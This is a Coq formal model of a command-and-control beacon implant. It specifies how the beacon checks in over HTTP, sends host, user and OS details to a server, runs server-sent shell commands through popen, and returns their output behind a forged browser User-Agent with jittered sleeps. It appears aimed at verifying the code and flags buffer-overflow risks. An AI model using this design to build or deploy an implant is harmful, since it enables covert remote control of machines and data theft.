(** * Ghost beacon: the check-in engine, its codec and its transport

    A shallow embedding of [beacon.h], [beacon.c] and [communication.c]
    (the POSIX build: the [#else] branches of the [#ifdef _WIN32] blocks;
    of the Windows branches only the [WSAStartup] call of
    [beacon_initialize] is kept, as the one place where initialisation
    can fail).

    Conventions.
    - A C string is the list of its bytes before the terminating NUL
      ([cstring]); raw bytes read from a socket or a pipe are [list ascii]
      and are cut at their first NUL ([c_str]) where the code hands them to
      a [str*] function.
    - [int] values are [Z]; [wrap_int] writes out the 32-bit wrap-around of
      the arithmetic of [sleep_with_jitter] and the conversion to [int]
      inside [atoi], [to_unsigned] the conversion of the argument of
      [sleep], [htons] the 16 bits of a port.
    - A fixed-size [char] array that is written at an offset is a [cbuf]:
      the C string it holds and a flag raised by any write past its end.
    - The outside world (network peer, clock, subprocesses, [rand]) is
      given as explicit inputs; what the program does to the world is
      returned as a list of [io_event]s.  Console output is not modelled.
    - Memory allocation is assumed to succeed. *)

From Stdlib Require Import ZArith Ascii String List Lia DecimalString.
From Stdlib Require Import DecimalPos.
From stdpp Require Import base list.
Import ListNotations.
Local Open Scope Z_scope.

(** ** C strings and the libc functions the sources use *)

Definition cstring := list ascii.

Definition lit (s : string) : cstring := list_ascii_of_string s.

Definition NUL : ascii := ascii_of_nat 0.
Definition DQUOTE : ascii := ascii_of_nat 34.
Definition BACKSLASH : ascii := ascii_of_nat 92.
Definition LF : ascii := ascii_of_nat 10.
Definition CRLF : cstring := [ascii_of_nat 13; ascii_of_nat 10].

Definition code (c : ascii) : Z := Z.of_nat (nat_of_ascii c).

(** The C string stored in a run of raw bytes: everything before the
    first NUL. *)
Fixpoint c_str (raw : list ascii) : cstring :=
  match raw with
  | [] => []
  | c :: rest => if Ascii.eqb c NUL then [] else c :: c_str rest
  end.

Definition strlen (s : cstring) : Z := Z.of_nat (length s).

(** [strcmp(a, b) == 0] *)
Fixpoint streq (a b : cstring) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => Ascii.eqb x y && streq a' b'
  | _, _ => false
  end.

(** [strncmp(s, p, strlen(p)) == 0] *)
Fixpoint starts_with (p s : cstring) : bool :=
  match p, s with
  | [], _ => true
  | x :: p', y :: s' => Ascii.eqb x y && starts_with p' s'
  | _ :: _, [] => false
  end.

(** [strstr]: the suffix of [hay] at the first occurrence of [needle]. *)
Fixpoint strstr (hay needle : cstring) : option cstring :=
  if starts_with needle hay then Some hay
  else match hay with
       | [] => None
       | _ :: hay' => strstr hay' needle
       end.

(** [strchr], as the index of the first occurrence. *)
Fixpoint strchr (s : cstring) (c : ascii) : option nat :=
  match s with
  | [] => None
  | x :: s' => if Ascii.eqb x c then Some O
               else match strchr s' c with
                    | Some i => Some (S i)
                    | None => None
                    end
  end.

(** [strncpy(dst, src, n)] into an array whose byte [n] is NUL. *)
Definition strncpy (src : cstring) (n : nat) : cstring := take n src.

Definition isspace (c : ascii) : bool :=
  (code c =? 32) || ((9 <=? code c) && (code c <=? 13)).

Definition isdigit (c : ascii) : bool :=
  (48 <=? code c) && (code c <=? 57).

Fixpoint skip_space (s : cstring) : cstring :=
  match s with
  | c :: rest => if isspace c then skip_space rest else s
  | [] => []
  end.

Fixpoint atoi_digits (s : cstring) (acc : Z) : Z :=
  match s with
  | c :: rest => if isdigit c then atoi_digits rest (acc * 10 + (code c - 48))
                 else acc
  | [] => acc
  end.

(** The number a decimal numeral denotes: blanks, an optional sign, then
    decimal digits, read up to the first byte that is no digit. *)
Definition decimal_value (s : cstring) : Z :=
  match skip_space s with
  | c :: rest =>
      if Ascii.eqb c (ascii_of_nat 45) then - atoi_digits rest 0
      else if Ascii.eqb c (ascii_of_nat 43) then atoi_digits rest 0
      else atoi_digits (c :: rest) 0
  | [] => 0
  end.

(** 32-bit two's complement wrap-around of an [int] result, and the
    conversion of a wider integer to [int]. *)
Definition wrap_int (z : Z) : Z := (z + 2147483648) mod 4294967296 - 2147483648.

(** The conversion of an [int] to [unsigned int]. *)
Definition to_unsigned (z : Z) : Z := z mod 4294967296.

Definition LONG_MAX : Z := 9223372036854775807.
Definition LONG_MIN : Z := -9223372036854775808.

(** [strtol(s, NULL, 10)] with a 64-bit [long]: a value out of range is
    replaced by [LONG_MAX] or [LONG_MIN]. *)
Definition strtol (s : cstring) : Z :=
  Z.max LONG_MIN (Z.min LONG_MAX (decimal_value s)).

(** [atoi]: the C library defines it as [(int) strtol(s, NULL, 10)]; the
    conversion of the [long] to [int] keeps its low 32 bits. *)
Definition atoi (s : cstring) : Z := wrap_int (strtol s).

(** ["%d"] *)
Definition itoa (z : Z) : cstring := lit (NilZero.string_of_int (Z.to_int z)).

(** A [char] array of [cap] bytes used as a string buffer. *)
Record cbuf := mk_cbuf {
  content : cstring;
  overflow : bool
}.

Definition cbuf_empty : cbuf := mk_cbuf [] false.

(** [snprintf(buf + offset, cap - offset, "...")] where the formatted text
    is [s]; the size argument is a [size_t], so it is positive for
    [offset < cap], zero for [offset = cap] and wraps to a huge value for
    [offset > cap], in which case the text lands behind the array.
    Returns the buffer and the value [snprintf] returns. *)
Definition snprintf_at (cap : Z) (buf : cbuf) (offset : Z) (s : cstring)
  : cbuf * Z :=
  if offset <? cap then
    (mk_cbuf (take (Z.to_nat offset) (content buf)
              ++ take (Z.to_nat (cap - offset - 1)) s) (overflow buf),
     strlen s)
  else if offset =? cap then (buf, strlen s)
  else (mk_cbuf (content buf) true, strlen s).

(** [snprintf(buf, cap, "...")] into a fresh array. *)
Definition snprintf (cap : Z) (s : cstring) : cstring :=
  take (Z.to_nat (cap - 1)) s.

(** [strcpy(buf + offset, s)]: [strlen s + 1] bytes are written. *)
Definition strcpy_at (cap : Z) (buf : cbuf) (offset : Z) (s : cstring) : cbuf :=
  mk_cbuf (take (Z.to_nat offset) (content buf) ++ s)
          (overflow buf || (cap <? offset + strlen s + 1)).

(** ** beacon.h *)

Definition MAX_URL_LEN : Z := 512.
Definition MAX_BUFFER_SIZE : Z := 8192.
Definition MAX_COMMAND_SIZE : Z := 4096.
Definition MAX_OUTPUT_SIZE : Z := 16384.
Definition BEACON_ID_LEN : Z := 37.
Definition USER_AGENT : cstring :=
  lit "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36".

Record beacon_config_t := mk_config {
  server_url : cstring;
  beacon_id : cstring;
  user_agent : cstring;
  sleep_interval : Z;
  jitter_percent : Z;
  verify_ssl : Z;
  proxy_url : cstring
}.

Record system_info_t := mk_sysinfo {
  hostname : cstring;
  username : cstring;
  os_name : cstring;
  os_version : cstring;
  architecture : cstring;
  pid : Z;
  cwd : cstring;
  ip_addresses : cstring
}.

Record command_t := mk_command {
  id : cstring;
  command : cstring;
  args : cstring
}.

Record command_result_t := mk_result {
  command_id : cstring;
  success : Z;
  output : cstring;
  timestamp : cstring
}.

(** Modelled from the spec: [communication.h], which declares
    [http_response_t], is not among the sources.  The transport contract
    of the spec has a response of status and body; the record has the
    three fields the code reads and writes.  [data] is [None] for the NULL
    pointer. *)
Record http_response_t := mk_response {
  status_code : Z;
  data : option cstring;
  size : Z
}.

Definition response_zero : http_response_t := mk_response 0 None 0.

(** ** The outside world *)

(** What the network does to one request. *)
Inductive net_outcome :=
| NetSocketError
| NetResolveError
| NetConnectError
| NetSendError
| NetReply (raw : list ascii).

(** What [popen] and the subprocess do. *)
Inductive popen_outcome :=
| PopenFails
| PopenRuns (stream : list ascii) (exit_status : Z).

(** The host as one command execution sees it; [clock] is what the clock
    shows when [execute_command] is entered. *)
Record host_env := mk_host {
  clock : cstring;
  popen : cstring -> popen_outcome;
  getcwd : option cstring
}.

(** A command execution in time: the host on entry, and what the clock
    shows when the command has completed. *)
Record timed_execution := mk_timed {
  on_entry : host_env;
  clock_on_completion : cstring
}.

(** Effects on the world, in program order. *)
Inductive io_event :=
| EvSleep (seconds : Z)
| EvResolve (host : cstring)
| EvConnect (host : cstring) (port : Z)
| EvSend (request : cstring) (len : Z)
| EvRecv (raw : list ascii)
| EvTlsHandshake (host : cstring) (verify : Z)
| EvPopen (cmdline : cstring).

(** ** communication.c *)

Definition quoted (s : cstring) : cstring := DQUOTE :: s ++ [DQUOTE].

(** ["\"k\":"] *)
Definition jkey (k : string) : cstring := quoted (lit k) ++ lit ":".

(** ["\"k\":\"%s\""], the string printed as it is *)
Definition jstr (k : string) (v : cstring) : cstring := jkey k ++ quoted v.

(** The placeholder every payload carries as its own timestamp. *)
Definition PLACEHOLDER_TIMESTAMP : cstring := lit "2024-01-01T00:00:00Z".

(** The header block of both check-in functions ([char headers[1024]]). *)
Definition checkin_headers (config : beacon_config_t) : cstring :=
  snprintf 1024
    (lit "User-Agent: " ++ user_agent config ++ CRLF
     ++ lit "Content-Type: application/json" ++ CRLF
     ++ lit "X-Beacon-ID: " ++ beacon_id config ++ CRLF).

(** Format of the initial check-in. *)
Definition first_checkin_json (config : beacon_config_t) (si : system_info_t)
  : cstring :=
  lit "{"
  ++ jstr "beacon_id" (beacon_id config) ++ lit ","
  ++ jstr "timestamp" PLACEHOLDER_TIMESTAMP ++ lit ","
  ++ jkey "system_info" ++ lit "{"
  ++ jstr "hostname" (hostname si) ++ lit ","
  ++ jstr "username" (username si) ++ lit ","
  ++ jstr "os_name" (os_name si) ++ lit ","
  ++ jstr "os_version" (os_version si) ++ lit ","
  ++ jstr "architecture" (architecture si) ++ lit ","
  ++ jkey "pid" ++ itoa (pid si) ++ lit ","
  ++ jstr "cwd" (cwd si)
  ++ lit "}"
  ++ lit "}".

(** Format of the opening of a check-in with command results. *)
Definition results_header_json (config : beacon_config_t) : cstring :=
  lit "{"
  ++ jstr "beacon_id" (beacon_id config) ++ lit ","
  ++ jstr "timestamp" PLACEHOLDER_TIMESTAMP ++ lit ","
  ++ jkey "command_results" ++ lit "[".

(** Format of the [i]-th result record. *)
Definition result_json (i : nat) (r : command_result_t) : cstring :=
  (match i with O => [] | S _ => lit "," end)
  ++ lit "{"
  ++ jstr "command_id" (command_id r) ++ lit ","
  ++ jkey "success" ++ (if success r =? 0 then lit "false" else lit "true")
  ++ lit ","
  ++ jstr "output" (output r) ++ lit ","
  ++ jstr "timestamp" (timestamp r)
  ++ lit "}".

(** Format of the regular check-in. *)
Definition regular_checkin_json (config : beacon_config_t) : cstring :=
  lit "{"
  ++ jstr "beacon_id" (beacon_id config) ++ lit ","
  ++ jstr "timestamp" PLACEHOLDER_TIMESTAMP
  ++ lit "}".

(** The [for] loop of [http_checkin] over [results[i]], from index [i] on;
    [rs] are the entries [results[i .. result_count-1]]. *)
Fixpoint results_loop (i : nat) (rs : list command_result_t)
    (json_data : cbuf) (offset : Z) : cbuf * Z :=
  match rs with
  | [] => (json_data, offset)
  | r :: rest =>
      if offset <? MAX_BUFFER_SIZE - 256 then
        let '(json_data', n) :=
          snprintf_at MAX_BUFFER_SIZE json_data offset (result_json i r) in
        results_loop (S i) rest json_data' (offset + n)
      else (json_data, offset)
  end.

(** [char json_data[MAX_BUFFER_SIZE]] of the result-bearing branch. *)
Definition results_checkin_json (config : beacon_config_t)
    (results : list command_result_t) (result_count : Z) : cbuf :=
  let '(b0, offset) :=
    snprintf_at MAX_BUFFER_SIZE cbuf_empty 0 (results_header_json config) in
  let '(b1, offset1) :=
    results_loop O (take (Z.to_nat result_count) results) b0 offset in
  fst (snprintf_at MAX_BUFFER_SIZE b1 offset1 (lit "]}")).

(** What a check-in function hands to the transport. *)
Record checkin_request := mk_request {
  req_method : cstring;
  req_headers : cstring;
  req_json : cbuf;              (* json_data as built *)
  req_data : option cstring     (* the data argument: NULL or json_data *)
}.

(** Lines 17-93 of [http_checkin]: headers, payload, method and data.
    [sysinfo] and [results] are [None] for NULL. *)
Definition http_checkin_request (config : beacon_config_t)
    (sysinfo : option system_info_t)
    (results : option (list command_result_t)) (result_count : Z)
  : checkin_request :=
  let headers := checkin_headers config in
  match sysinfo with
  | Some si =>
      let json := mk_cbuf (snprintf MAX_BUFFER_SIZE (first_checkin_json config si)) false in
      mk_request (lit "POST") headers json (Some (content json))
  | None =>
      match results with
      | Some rs =>
          if result_count >? 0 then
            let json := results_checkin_json config rs result_count in
            mk_request (lit "POST") headers json (Some (content json))
          else
            let json := mk_cbuf (snprintf MAX_BUFFER_SIZE (regular_checkin_json config)) false in
            mk_request (lit "GET") headers json None
      | None =>
          let json := mk_cbuf (snprintf MAX_BUFFER_SIZE (regular_checkin_json config)) false in
          mk_request (lit "GET") headers json None
      end
  end.

(** Lines 117-165 of [https_checkin]: the results are not looked at. *)
Definition https_checkin_request (config : beacon_config_t)
    (sysinfo : option system_info_t)
    (results : option (list command_result_t)) (result_count : Z)
  : checkin_request :=
  let headers := checkin_headers config in
  match sysinfo with
  | Some si =>
      let json := mk_cbuf (snprintf MAX_BUFFER_SIZE (first_checkin_json config si)) false in
      mk_request (lit "POST") headers json (Some (content json))
  | None =>
      let json := mk_cbuf (snprintf MAX_BUFFER_SIZE (regular_checkin_json config)) false in
      mk_request (lit "GET") headers json None
  end.

(** [parse_url]: the host and the path it copies, the port and the TLS
    flag.  The copies are unchecked: whether they stay inside the arrays
    of the caller is [parse_url_in_bounds] below. *)
Definition parse_url (url : cstring) : cstring * Z * cstring * Z :=
  let '(start, port0, use_ssl) :=
    if starts_with (lit "http://") url then (drop 7 url, 80, 0)
    else if starts_with (lit "https://") url then (drop 8 url, 443, 1)
    else (url, 80, 0) in
  let path_start := strchr start (ascii_of_nat 47) in
  let port_start := strchr start (ascii_of_nat 58) in
  let '(hostname_len, port) :=
    match port_start, path_start with
    | Some p, None => (p, atoi (drop (S p) start))
    | Some p, Some q =>
        if (p <? q)%nat then (p, atoi (drop (S p) start)) else (q, port0)
    | None, Some q => (q, port0)
    | None, None => (length start, port0)
    end in
  let path :=
    match path_start with
    | Some q => drop q start
    | None => lit "/"
    end in
  (take hostname_len start, port, path, use_ssl).

(** [char hostname[256]] and [char path[512]] of [http_request], which
    [parse_url] fills without a length check ([strncpy] of the host and a
    NUL behind it, [strcpy] of the path): whether every write stays
    inside them.  Where it does not the call has undefined behaviour,
    which [http_request] below does not describe. *)
Definition parse_url_in_bounds (url : cstring) : bool :=
  let '(host, _, path, _) := parse_url url in
  (strlen host <? 256) && (strlen path <? 512).

(** [htons(port)], as the port number it stands for: the [int] is
    converted to the 16 bits of a [uint16_t]. *)
Definition htons (port : Z) : Z := port mod 65536.

(** Format of the request line and the header lines of [http_request]. *)
Definition request_head (method path host headers : cstring) : cstring :=
  method ++ lit " " ++ path ++ lit " HTTP/1.1" ++ CRLF
  ++ lit "Host: " ++ host ++ CRLF
  ++ headers
  ++ lit "Connection: close" ++ CRLF
  ++ CRLF.

(** [char request[MAX_BUFFER_SIZE]] and [request_len] of [http_request]. *)
Definition build_request (method path host headers : cstring)
    (data : option cstring) : cbuf * Z :=
  let '(b0, request_len) :=
    snprintf_at MAX_BUFFER_SIZE cbuf_empty 0
      (request_head method path host headers) in
  match data with
  | Some d =>
      let '(b1, n) := snprintf_at MAX_BUFFER_SIZE b0 request_len d in
      (b1, request_len + n)
  | None => (b0, request_len)
  end.

(** The status the POSIX transport reads out of the reply. *)
Definition parse_status (raw : list ascii) : Z :=
  match strstr (c_str raw) (lit "HTTP/1.1 ") with
  | Some status_line => atoi (drop 9 status_line)
  | None => 0
  end.

(** [http_request], raw sockets: return value, response, effects; for a
    URL with [parse_url_in_bounds]. *)
Definition http_request (method url headers : cstring) (data : option cstring)
    (net : net_outcome) : Z * http_response_t * list io_event :=
  let '(host, port, path, use_ssl) := parse_url url in
  match net with
  | NetSocketError => (-1, response_zero, [])
  | NetResolveError => (-1, response_zero, [EvResolve host])
  | NetConnectError =>
      (-1, response_zero, [EvResolve host; EvConnect host (htons port)])
  | NetSendError =>
      let '(request, request_len) := build_request method path host headers data in
      (-1, response_zero,
       [EvResolve host; EvConnect host (htons port);
        EvSend (content request) request_len])
  | NetReply raw =>
      let '(request, request_len) := build_request method path host headers data in
      (0, mk_response (parse_status raw) (Some raw) (strlen raw),
       [EvResolve host; EvConnect host (htons port);
        EvSend (content request) request_len; EvRecv raw])
  end.

(** [https_request]: the body is the call of [http_request]. *)
Definition https_request (method url headers : cstring) (data : option cstring)
    (net : net_outcome) (verify : Z) : Z * http_response_t * list io_event :=
  http_request method url headers data net.

(** [parse_commands_json]: the command array it stores (NULL is the empty
    list); the count it returns is the length. *)
Definition parse_commands_json (json : cstring) : list command_t :=
  match strstr json (quoted (lit "commands") ++ lit ":[") with
  | None => []
  | Some commands_start => []
  end.

Section Engine.

(** The response decoder the check-in functions call.  The program links
    [parse_commands_json]; the engine is written over any decoder. *)
Variable decode : cstring -> list command_t.

(** Lines 95-110 of [http_checkin], shared by [https_checkin]: the
    return value and the commands stored through the out-parameters
    ([command_count] stays 0 when nothing is stored). *)
Definition checkin_outcome (r : Z * http_response_t * list io_event)
  : Z * list command_t * list io_event :=
  let '(result, response, evs) := r in
  match data response with
  | Some raw =>
      if (result =? 0) && (status_code response =? 200)
      then (0, decode (c_str raw), evs)
      else (-1, [], evs)
  | None => (-1, [], evs)
  end.

Definition http_checkin (config : beacon_config_t)
    (sysinfo : option system_info_t)
    (results : option (list command_result_t)) (result_count : Z)
    (net : net_outcome) : Z * list command_t * list io_event :=
  let rq := http_checkin_request config sysinfo results result_count in
  checkin_outcome
    (http_request (req_method rq) (server_url config) (req_headers rq)
                  (req_data rq) net).

Definition https_checkin (config : beacon_config_t)
    (sysinfo : option system_info_t)
    (results : option (list command_result_t)) (result_count : Z)
    (net : net_outcome) : Z * list command_t * list io_event :=
  let rq := https_checkin_request config sysinfo results result_count in
  checkin_outcome
    (https_request (req_method rq) (server_url config) (req_headers rq)
                   (req_data rq) net (verify_ssl config)).

End Engine.

(** ** beacon.c *)

(** [fgets(buffer, n + 1, pipe)] on a stream that still has bytes: at most
    [n] bytes, ending after the first newline. *)
Fixpoint fgets_chunk (n : nat) (stream : list ascii) : list ascii * list ascii :=
  match n with
  | O => ([], stream)
  | S n' =>
      match stream with
      | [] => ([], [])
      | c :: rest =>
          if Ascii.eqb c LF then ([c], rest)
          else let '(chunk, rest') := fgets_chunk n' rest in (c :: chunk, rest')
      end
  end.

(** [fgets(buffer, size, pipe)]: [None] is the NULL of end-of-file. *)
Definition fgets (size : nat) (stream : list ascii)
  : option (list ascii * list ascii) :=
  match stream with
  | [] => None
  | _ :: _ => Some (fgets_chunk (size - 1) stream)
  end.

(** The [while] loop of [execute_shell_command].  Every round consumes at
    least one byte of the stream, so [length stream] rounds of [fuel] are
    enough (see [shell_read_loop_fuel]). *)
Fixpoint shell_read_loop (fuel : nat) (output_size : Z) (stream : list ascii)
    (output : cbuf) (total_read : Z) : cbuf * Z :=
  match fuel with
  | O => (output, total_read)
  | S fuel' =>
      match fgets 1024 stream with
      | None => (output, total_read)
      | Some (buffer, rest) =>
          if total_read <? output_size - 1 then
            let len := strlen (c_str buffer) in
            if total_read + len <? output_size - 1 then
              shell_read_loop fuel' output_size rest
                (strcpy_at output_size output total_read (c_str buffer))
                (total_read + len)
            else (output, total_read)
          else (output, total_read)
      end
  end.

(** [execute_shell_command] on an [output] array that was zeroed by the
    caller: return value, the array, effects. *)
Definition execute_shell_command (cmdline : cstring) (output_size : Z)
    (h : host_env) : Z * cbuf * list io_event :=
  match popen h cmdline with
  | PopenFails =>
      (0,
       mk_cbuf (strncpy (lit "Error: Failed to execute command")
                        (Z.to_nat (output_size - 1))) false,
       [EvPopen cmdline])
  | PopenRuns stream exit_status =>
      let '(out, total_read) :=
        shell_read_loop (length stream) output_size stream cbuf_empty 0 in
      (if exit_status =? 0 then 1 else 0, out, [EvPopen cmdline])
  end.

(** [get_current_timestamp]: what [strftime] prints for the current time. *)
Definition get_current_timestamp (h : host_env) : cstring := clock h.

(** [execute_command]: the record stored through [result], the new value
    of [g_running], whether a write left the [output] array, effects. *)
Definition execute_command (cmd : command_t) (h : host_env) (g_running : Z)
  : command_result_t * Z * bool * list io_event :=
  let cid := strncpy (id cmd) 63 in
  let ts := get_current_timestamp h in
  if streq (command cmd) (lit "shell") then
    let '(ok, out, evs) := execute_shell_command (args cmd) MAX_OUTPUT_SIZE h in
    (mk_result cid ok (content out) ts, g_running, overflow out, evs)
  else if streq (command cmd) (lit "pwd") then
    match getcwd h with
    | None =>
        (mk_result cid 0 (lit "Error getting current directory") ts,
         g_running, false, [])
    | Some dir => (mk_result cid 1 dir ts, g_running, false, [])
    end
  else if streq (command cmd) (lit "exit") then
    (mk_result cid 1 (lit "Beacon shutting down") ts, 0, false, [])
  else
    (mk_result cid 0
       (snprintf MAX_OUTPUT_SIZE (lit "Unknown command: " ++ command cmd)) ts,
     g_running, false, []).

(** [sleep_with_jitter]: the seconds [sleep] is called with; [rand] is
    the value [rand()] returns.  [sleep] takes an [unsigned int], so the
    [int] passed to it is converted. *)
Definition sleep_with_jitter (base_seconds jitter_percent : Z) (rand : Z) : Z :=
  if jitter_percent >? 0 then
    let jitter_range := Z.quot (wrap_int (base_seconds * jitter_percent)) 100 in
    let jitter :=
      wrap_int (Z.rem rand (wrap_int (2 * jitter_range + 1)) - jitter_range) in
    let sleep_time := wrap_int (base_seconds + jitter) in
    to_unsigned (if sleep_time <? 1 then 1 else sleep_time)
  else to_unsigned base_seconds.

(** The file-scope variables of [beacon.c] ([g_config] is passed around
    by pointer and never written after [main] has parsed the arguments). *)
Record beacon_state := mk_state {
  g_sysinfo : system_info_t;
  g_running : Z;
  g_results : list command_result_t;   (* command_result_t g_results[64] *)
  g_result_count : Z
}.

Definition result_zero : command_result_t := mk_result [] 0 [] [].
Definition sysinfo_zero : system_info_t := mk_sysinfo [] [] [] [] [] 0 [] [].

Definition initial_state : beacon_state :=
  mk_state sysinfo_zero 0 (replicate 64 result_zero) 0.

(** The inputs of one round of the main loop; [host i] is the host as the
    execution of the [i]-th received command finds it. *)
Record cycle_env := mk_cycle {
  rnd : Z;
  net : net_outcome;
  host : nat -> host_env
}.

(** The [for] loop of [beacon_main_loop] over [commands[i]], from index
    [i] on. *)
Fixpoint process_commands (commands : list command_t) (i : nat)
    (host : nat -> host_env) (st : beacon_state)
  : beacon_state * list io_event :=
  match commands with
  | [] => (st, [])
  | cmd :: rest =>
      if g_result_count st <? 64 then
        let '(r, running, _, evs) := execute_command cmd (host i) (g_running st) in
        let st' :=
          mk_state (g_sysinfo st) running
                   (<[Z.to_nat (g_result_count st) := r]> (g_results st))
                   (g_result_count st + 1) in
        let '(st'', evs') := process_commands rest (S i) host st' in
        (st'', evs ++ evs')
      else process_commands rest (S i) host st
  end.

Section Loop.

Variable decode : cstring -> list command_t.

(** The choice of [strncmp(config->server_url, "https://", 8) == 0] that
    [beacon_start] and [beacon_main_loop] make between the two check-in
    functions. *)
Definition checkin (config : beacon_config_t) (sysinfo : option system_info_t)
    (results : option (list command_result_t)) (result_count : Z)
    (n : net_outcome) : Z * list command_t * list io_event :=
  if starts_with (lit "https://") (server_url config)
  then https_checkin decode config sysinfo results result_count n
  else http_checkin decode config sysinfo results result_count n.

(** One round of the [while] loop of [beacon_main_loop]. *)
Definition beacon_cycle (config : beacon_config_t) (e : cycle_env)
    (st : beacon_state) : beacon_state * list io_event :=
  let slept :=
    EvSleep (sleep_with_jitter (sleep_interval config) (jitter_percent config)
                               (rnd e)) in
  let '(checkin_result, commands, evs) :=
    checkin config None (Some (g_results st)) (g_result_count st) (net e) in
  if checkin_result =? 0 then
    let cleared :=
      mk_state (g_sysinfo st) (g_running st) (g_results st) 0 in
    let '(st', evs') := process_commands commands O (host e) cleared in
    (st', slept :: evs ++ evs')
  else (st, slept :: evs).

(** How far a run has come on the inputs it was given. *)
Inductive run_outcome :=
| Returned (status : Z) (st : beacon_state) (trace : list io_event)
| StillRunning (st : beacon_state) (trace : list io_event).

(** [beacon_main_loop] on the inputs of its first [length cycles] rounds. *)
Fixpoint beacon_main_loop (config : beacon_config_t) (cycles : list cycle_env)
    (st : beacon_state) (trace : list io_event) : run_outcome :=
  if g_running st =? 0 then Returned 0 st trace
  else match cycles with
       | [] => StillRunning st trace
       | e :: rest =>
           let '(st', evs) := beacon_cycle config e st in
           beacon_main_loop config rest st' (trace ++ evs)
       end.

(** The build: POSIX, or Windows with the value [WSAStartup] returns. *)
Inductive platform :=
| Posix
| Win32 (wsa_startup : Z).

(** What the process finds when it starts. *)
Record startup_env := mk_startup {
  build : platform;
  host_info : system_info_t;   (* what the host reports about itself *)
  uuid : cstring;              (* what generate_uuid prints *)
  first_net : net_outcome      (* the network at the initial check-in *)
}.

(** [collect_system_info]: the return value and [*sysinfo]. *)
Definition collect_system_info (s : startup_env) : Z * system_info_t :=
  let i := host_info s in
  (0, mk_sysinfo (hostname i) (username i) (os_name i) (os_version i)
                 (architecture i) (pid i) (cwd i) (lit "127.0.0.1")).

Definition beacon_initialize (config : beacon_config_t) (s : startup_env)
    (st : beacon_state) : Z * beacon_state :=
  match build s with
  | Win32 r =>
      if negb (r =? 0) then (-1, st)
      else
        let '(rc, si) := collect_system_info s in
        let st' := mk_state si (g_running st) (g_results st) (g_result_count st) in
        if negb (rc =? 0) then (-1, st') else (0, st')
  | Posix =>
      let '(rc, si) := collect_system_info s in
      let st' := mk_state si (g_running st) (g_results st) (g_result_count st) in
      if negb (rc =? 0) then (-1, st') else (0, st')
  end.

Definition beacon_start (config : beacon_config_t) (s : startup_env)
    (st : beacon_state) : Z * beacon_state * list io_event :=
  let '(checkin_result, commands, evs) :=
    checkin config (Some (g_sysinfo st)) None 0 (first_net s) in
  if checkin_result =? 0 then
    (0, mk_state (g_sysinfo st) 1 (g_results st) (g_result_count st), evs)
  else (-1, st, evs).

(** The option loop of [main] from [argv[i]] on. *)
Fixpoint parse_options (argv : list cstring) (config : beacon_config_t)
  : beacon_config_t :=
  match argv with
  | [] => config
  | opt :: tl =>
      match tl with
      | [] => config
      | value :: rest =>
          let '(mk_config url bid ua sl ji vs px) := config in
          if streq opt (lit "--sleep") then
            parse_options rest (mk_config url bid ua (atoi value) ji vs px)
          else if streq opt (lit "--jitter") then
            let j := atoi value in
            parse_options rest
              (mk_config url bid ua sl (if j >? 50 then 50 else j) vs px)
          else if streq opt (lit "--user-agent") then
            parse_options rest (mk_config url bid (strncpy value 255) sl ji vs px)
          else if streq opt (lit "--proxy") then
            parse_options rest (mk_config url bid ua sl ji vs (strncpy value 511))
          else if streq opt (lit "--beacon-id") then
            parse_options rest (mk_config url (strncpy value 36) ua sl ji vs px)
          else if streq opt (lit "--verify-ssl") then
            parse_options tl (mk_config url bid ua sl ji 1 px)
          else parse_options rest config
      end
  end.

(** [g_config] as [main] leaves it; [None] when [argc < 2]. *)
Definition main_config (argv : list cstring) (s : startup_env)
  : option beacon_config_t :=
  match argv with
  | _ :: url :: options =>
      let c0 := mk_config (strncpy url 511) [] USER_AGENT 60 10 0 [] in
      let c1 := parse_options options c0 in
      Some (if strlen (beacon_id c1) =? 0
            then mk_config (server_url c1) (uuid s) (user_agent c1)
                           (sleep_interval c1) (jitter_percent c1)
                           (verify_ssl c1) (proxy_url c1)
            else c1)
  | _ => None
  end.

(** [main]: the exit status once it returns. *)
Definition main (argv : list cstring) (s : startup_env)
    (cycles : list cycle_env) : run_outcome :=
  match main_config argv s with
  | None => Returned 1 initial_state []
  | Some config =>
      let '(rc, st1) := beacon_initialize config s initial_state in
      if negb (rc =? 0) then Returned 1 st1 []
      else
        let '(rc', st2, evs) := beacon_start config s st1 in
        if negb (rc' =? 0) then Returned 1 st2 evs
        else beacon_main_loop config cycles st2 evs
  end.

End Loop.

(** ** Vocabulary of the statements *)

Definition is_sleep (e : io_event) : bool :=
  match e with EvSleep _ => true | _ => false end.

Definition is_send (e : io_event) : bool :=
  match e with EvSend _ _ => true | _ => false end.

Definition is_tls (e : io_event) : bool :=
  match e with EvTlsHandshake _ _ => true | _ => false end.

(** How often an effect of a kind occurs in a trace. *)
Definition occurrences (kind : io_event -> bool) (trace : list io_event) : nat :=
  length (List.filter kind trace).

Definition outcome_state (o : run_outcome) : beacon_state :=
  match o with
  | Returned _ st _ => st
  | StillRunning st _ => st
  end.



(** The results waiting for transmission: [g_results[0 .. g_result_count-1]]. *)
Definition result_buffer (st : beacon_state) : list command_result_t :=
  take (Z.to_nat (g_result_count st)) (g_results st).

(** The bytes hold no NUL. *)
Definition no_nul (raw : list ascii) : bool :=
  forallb (fun c => negb (Ascii.eqb c NUL)) raw.

(** The opening every payload has: identity and the payload timestamp. *)
Definition payload_opening (config : beacon_config_t) : cstring :=
  lit "{"
  ++ jstr "beacon_id" (beacon_id config) ++ lit ","
  ++ jstr "timestamp" PLACEHOLDER_TIMESTAMP.

(** The records of [rs] one after the other as the format prints them,
    the first one at index [i]. *)
Fixpoint results_json (i : nat) (rs : list command_result_t) : cstring :=
  match rs with
  | [] => []
  | r :: rest => result_json i r ++ results_json (S i) rest
  end.

(** The result-bearing shape of the wire format, holding all of [rs]. *)
Definition result_bearing_shape (config : beacon_config_t)
    (rs : list command_result_t) : cstring :=
  results_header_json config ++ results_json O rs ++ lit "]}".

(** [rs] fits the payload array the way the loop of [http_checkin] needs
    it: every record starts below the guard of [MAX_BUFFER_SIZE - 256]
    bytes and the closed document fits the array with its NUL. *)
Definition fits_payload (config : beacon_config_t)
    (rs : list command_result_t) : Prop :=
  (forall k, (k < length rs)%nat ->
     strlen (results_header_json config ++ results_json O (take k rs))
     < MAX_BUFFER_SIZE - 256)
  /\ strlen (result_bearing_shape config rs) < MAX_BUFFER_SIZE.

(** ** A decoder of the wire format, for the framing statements *)

(** A byte that may stand for itself inside a string of the wire format:
    no double quote, no backslash, no control character. *)
Definition plain_char (c : ascii) : bool :=
  negb (Ascii.eqb c DQUOTE) && negb (Ascii.eqb c BACKSLASH) && (32 <=? code c).

